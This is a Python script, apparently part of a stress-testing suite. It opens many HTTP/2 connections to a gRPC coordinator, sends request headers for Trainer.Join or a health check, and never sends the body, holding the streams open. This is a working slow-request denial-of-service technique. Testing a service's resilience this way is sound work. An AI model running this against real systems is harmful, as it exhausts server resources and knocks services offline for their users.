"""Stalled DATA: connections that open a call and never send its body.

Each connection sends the preface, SETTINGS and the HEADERS of a call without END_STREAM, then
nothing more until --duration ends: half open Trainer.Join (a streaming call the coordinator
waits on), half a health check.
"""
import time

import attack
import grpc_wire
import h2frames as f


def main():
    p = attack.parser(__doc__, duration=4.0, connections=200, rate=500.0, rate_help="connections opened per second")
    args = p.parse_args()
    report = attack.Report("stalled-data", args)
    report.notes.append(f"file descriptor limit {attack.raise_file_limit()}")
    pool = attack.Pool()
    started = time.monotonic()
    for i in range(args.connections):
        if report.elapsed() >= args.duration:
            break
        connection = attack.connect(args.target, report, connect_timeout=1.0)
        if connection is None:
            continue
        path = grpc_wire.TRAINER_JOIN if i % 2 == 0 else grpc_wire.HEALTH_CHECK
        block = grpc_wire.encode_request(grpc_wire.new_encoder(), connection.authority, path)
        if connection.send(f.PREFACE + f.settings() + f.headers(1, block), timeout=1.0):
            report.sent[f"calls to {path} without a body"] += 1
            pool.add(connection)
        attack.pace(args.rate, started, i + 1)
    while report.elapsed() < args.duration:
        pool.drain(wait=0.05)
    report.notes.append(f"{pool.open_count()} of {len(pool.connections)} still open at the end")
    pool.close_all()
    report.finish()


if __name__ == "__main__":
    main()
